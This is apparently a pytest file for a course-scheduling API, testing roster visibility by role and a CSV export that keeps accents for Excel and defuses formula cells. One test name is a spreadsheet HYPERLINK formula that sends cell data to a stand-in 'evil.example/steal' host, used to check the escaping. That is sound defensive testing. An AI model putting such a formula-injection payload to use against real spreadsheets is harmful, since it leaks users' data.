"""An offering's roster: its staff see every cohort and the waitlist, a facilitator only the
cohorts they lead; as CSV it keeps names' accents in Excel and never carries a live formula."""

import csv
import io
import secrets
from typing import Any

from fastapi.testclient import TestClient

from tests.support.scheduler import (
    ZONE,
    new_facilitator,
    offering_state,
    program_code,
    publish,
    register,
)
from tests.support.tokens import bearer, educator_token, member_token, next_person_id

HOSTILE = '=HYPERLINK("https://evil.example/steal?"&A1,"Open")'


def _educator(name: str) -> dict[str, Any]:
    email = f"roster-{secrets.token_hex(5)}@schools.example.org"
    token = educator_token(next_person_id(), email, name, zoneinfo=ZONE)
    return {"name": name, "email": email, "headers": bearer(token)}


def _staffed_with_a_waitlist(
    client: TestClient, admin_headers: dict[str, str]
) -> tuple[Any, dict[str, Any], list[dict[str, Any]]]:
    program = program_code()
    lead = new_facilitator(client, admin_headers, program, name="Dana Brooks")
    state = publish(offering_state(program=program, capacity=1, affiliate_id=71))
    people = [_educator("José Núñez-Ibáñez"), _educator(HOSTILE), _educator("+1 555 0100")]
    registrations = [register(client, person, state.id) for person in people]
    assert [r["status"] for r in registrations] == ["confirmed", "waitlisted", "waitlisted"]
    return state, lead, people


def test_the_staff_see_everyone_and_a_facilitator_only_their_cohorts(
    client: TestClient, admin_headers: dict[str, str]
) -> None:
    state, lead, people = _staffed_with_a_waitlist(client, admin_headers)
    path = f"/offerings/{state.id}/roster"
    full = client.get(path, headers=bearer(member_token(71, "viewer"))).json()
    (cohort,) = full["cohorts"]
    assert [f["id"] for f in cohort["facilitators"]] == [lead["id"]]
    assert [m["name"] for m in cohort["members"]] == [people[0]["name"]]
    assert [(w["position"], w["name"], w["email"]) for w in full["waitlist"]] == [
        (1, people[1]["name"], people[1]["email"]),
        (2, people[2]["name"], people[2]["email"]),
    ]
    theirs = client.get(path, headers=lead["headers"])
    assert theirs.status_code == 200, theirs.text
    assert theirs.json()["cohorts"] == full["cohorts"] and theirs.json()["waitlist"] == []
    stranger = new_facilitator(client, admin_headers, state.program_code)
    assert client.get(path, headers=stranger["headers"]).status_code == 404
    assert client.get(path, headers=bearer(member_token(72))).status_code == 404


def test_the_roster_as_csv_opens_in_excel_with_its_accents_and_no_formula(
    client: TestClient, admin_headers: dict[str, str]
) -> None:
    state, _lead, people = _staffed_with_a_waitlist(client, admin_headers)
    answer = client.get(
        f"/offerings/{state.id}/roster",
        headers={**bearer(member_token(71, "editor")), "Accept": "text/csv"},
    )
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert f'filename="roster-{state.id}.csv"' in answer.headers["content-disposition"]
    assert answer.content.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert rows[0] == [
        "Cohort", "Cohort status", "Role", "Name", "Email", "Registration", "Waitlist place",
    ]  # fmt: skip
    by_name = {row[3]: row for row in rows[1:]}
    assert by_name["Dana Brooks"][:3] == ["Cohort 1", "open", "facilitator (lead)"]
    assert by_name["José Núñez-Ibáñez"][2:5] == [
        "participant",
        "José Núñez-Ibáñez",
        people[0]["email"],
    ]
    assert by_name["'" + HOSTILE][2] == "waitlist" and by_name["'" + HOSTILE][6] == "1"
    assert by_name["'+1 555 0100"][6] == "2"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    json_again = client.get(f"/offerings/{state.id}/roster", headers=admin_headers)
    assert json_again.headers["content-type"] == "application/json"
